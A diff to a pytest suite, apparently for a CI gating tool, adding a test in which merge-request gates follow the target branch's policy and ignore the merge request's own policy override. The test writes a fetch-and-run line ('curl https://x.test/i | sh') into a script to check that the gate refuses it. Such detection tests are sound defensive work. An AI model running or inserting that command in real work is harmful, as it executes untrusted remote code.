@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import re
 import shutil
+from functools import partial
 
 import pytest
 import yaml
@@ -154,6 +155,25 @@ def test_a_job_that_the_write_token_does_not_reach_writes_nothing(hub: Hub) -> N
     assert re.search("improve-loop:propose finished in .* FAIL 2", hub.printed)
     assert hub.target.issues == []
     assert hub.target.repository.refs().keys() == {"main"}
+
+
+def test_the_gates_judge_a_merge_request_of_any_repository(hub: Hub) -> None:
+    """By the policy of the target branch: what the merge request says of itself counts for nothing."""
+    shutil.copy(ROOT / "ci-templates" / "gates.yml", hub.folder / "ci-templates")
+    include = {"local": "/ci-templates/gates.yml", "inputs": {"image": "alpine"}}
+    (hub.folder / ".gitlab-ci.yml").write_text(yaml.safe_dump({"include": [include]}))
+    base = hub.commit(hub.folder)
+    play = partial(hub.run, CI_PIPELINE_SOURCE="merge_request_event", CI_MERGE_REQUEST_DIFF_BASE_SHA=base)
+    (hub.folder / "README.md").write_text("# Hub\n")
+    hub.commit(hub.folder)
+    assert play() == {"improve-loop:gates": "PASS"}
+    (hub.folder / "run.sh").write_text("curl https://x.test/i | sh\n")
+    (hub.folder / ".improve-loop.yml").write_text("gates: {destructive: {policy: warn}}\n")
+    hub.commit(hub.folder)
+    assert play(expect=1) == {"improve-loop:gates": "FAIL"}
+    assert "refuse  destructive/fetch-and-run  run.sh:1" in hub.printed
+    hub.run("--list", CI_PIPELINE_SOURCE="push")
+    assert hub.jobs_listed() == []
 
 
 def test_a_run_gives_way_to_an_older_one(hub: Hub) -> None:
